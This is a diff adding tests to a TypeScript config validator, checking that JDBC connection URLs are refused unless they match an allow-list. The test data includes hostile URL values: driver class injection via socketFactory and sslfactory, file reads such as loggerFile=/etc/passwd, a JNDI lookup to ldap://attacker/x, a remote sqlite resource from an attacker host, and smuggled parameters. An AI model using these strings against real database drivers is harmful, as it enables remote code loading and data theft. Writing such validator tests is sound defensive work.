@@ -131,10 +131,49 @@ target { table = "orders", snapshot-date = "2026-07-05" }
       'jdbc:sqlserver://db:1433;user=sa;password=hunter2',
       'jdbc:postgresql://db/shop?socketFactory=org.example.Evil',
       'jdbc:postgresql://db/shop?loggerFile=/etc/passwd',
+      'jdbc:postgresql://db/shop?sslfactory=org.example.Evil&sslmode=require',
+      'jdbc:postgresql://db/shop?sslrootcert=/var/run/secrets/kubernetes.io/serviceaccount/ca.crt',
     ]) {
       const issues = await configIssues(valid.replace('jdbc:postgresql://db.example:5432/shop', url));
       expect(issues, url).toEqual([{ path: 'source.url', message: expect.stringMatching(/must not carry credentials/) }]);
     }
+  });
+
+  // An allow-list, not a deny-list: each driver version reads more from its url (classes, files,
+  // JNDI names, the server's own identity), so a parameter nobody listed is refused, by any name.
+  it.each([
+    ['jdbc:mysql://db:3306/shop?queryInterceptors=com.example.Evil', 'org.example', /"queryInterceptors" is not one an inline jdbc:mysql: url may set/],
+    ['jdbc:mysql://address=(host=db)(queryInterceptors=com.example.Evil)/shop', 'mysql', /must have the form jdbc:mysql:\/\/host\[:port\]\/database/],
+    ['jdbc:mariadb://db:3306/shop?autocommit=false&socketFactory=x', 'mariadb', /"autocommit" is not one/],
+    [
+      'jdbc:sqlserver://db:1433;databaseName=shop;authentication=ActiveDirectoryMSI',
+      'sqlserver',
+      /"authentication" is not one an inline jdbc:sqlserver: url may set/,
+    ],
+    ['jdbc:db2://db:50000/SHOP:clientRerouteServerListJNDIName=ldap://attacker/x;', 'db2', /"clientRerouteServerListJNDIName" is not one/],
+    ['jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db)(PORT=1521)))', 'oracle', /no descriptor, no parameters/],
+    ['jdbc:sqlite::resource:http://attacker/x.db', 'sqlite', /jdbc:sqlite:\/absolute\/path\.db/],
+    ['jdbc:sqlite:shop.db', 'sqlite', /jdbc:sqlite:\/absolute\/path\.db/],
+    ['jdbc:postgresql://db/shop?sslmode=require;socketFactory=x', 'postgresql', /"sslmode" must be key=value with a plain value/],
+  ])("refuses %s: only its protocol's shape and allow-listed parameters", async (url, _, message) => {
+    const driver = { mysql: 'com.mysql.cj.jdbc.Driver', mariadb: 'org.mariadb.jdbc.Driver', sqlserver: 'com.microsoft.sqlserver.jdbc.SQLServerDriver' }[
+      /^jdbc:([a-z0-9]+):/.exec(url)![1] as 'mysql'
+    ];
+    const config = valid.replace('jdbc:postgresql://db.example:5432/shop', url).replace('org.postgresql.Driver', driver ?? 'org.postgresql.Driver');
+    const issues = await configIssues(config);
+    expect(
+      issues.filter((i) => i.path === 'source.url'),
+      url,
+    ).toEqual([{ path: 'source.url', message: expect.stringMatching(message) }]);
+  });
+
+  it.each([
+    'jdbc:postgresql://db.example:5432/shop?sslmode=verify-full&currentSchema=sales&ApplicationName=lake',
+    'jdbc:postgresql://[::1]:5432/shop',
+    'jdbc:postgresql://db-a:5432,db-b:5432/shop?targetServerType=primary',
+  ])('accepts %s', async (url) => {
+    const job = await load(valid.replace('jdbc:postgresql://db.example:5432/shop', url));
+    expect(job.template.name).toBe('jdbc-snapshot-ingest');
   });
 
   it('refuses an unknown connection, naming the configured ones', async () => {
